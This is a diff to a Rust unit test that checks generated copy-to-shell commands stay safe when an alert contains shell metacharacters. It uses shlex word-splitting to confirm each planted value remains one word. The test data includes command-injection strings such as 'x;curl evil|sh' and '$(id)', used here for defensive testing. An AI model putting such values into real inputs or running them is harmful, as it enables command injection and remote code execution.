@@ -150,10 +150,18 @@ fn commands(alert: &Alert) -> Vec<String> {
 
 #[test]
 fn shell_metacharacters_in_a_command_to_copy() {
-    for text in ["x;curl evil|sh", "$(id)", "`id`", "'; id; '", "x&&id", "x>y"] {
-        for command in commands(&planted(text)) {
-            assert!(!command.contains(text), "{command}");
-        }
+    let words = |text: &str| -> Vec<Vec<String>> {
+        commands(&planted(text)).iter().map(|command| shlex::split(command).unwrap()).collect()
+    };
+    let harmless = words("word");
+    assert!(harmless.len() >= 3, "{harmless:#?}");
+    for text in ["x;curl evil|sh", "$(id)", "`id`", "'; id; '", "x&&id", "x>y", "a b", "x'y"] {
+        // The same words, with this one in its place.
+        let expected: Vec<Vec<String>> = harmless
+            .iter()
+            .map(|words| words.iter().map(|word| word.replace("word", text)).collect())
+            .collect();
+        assert_eq!(words(text), expected, "{text}");
     }
 }
 
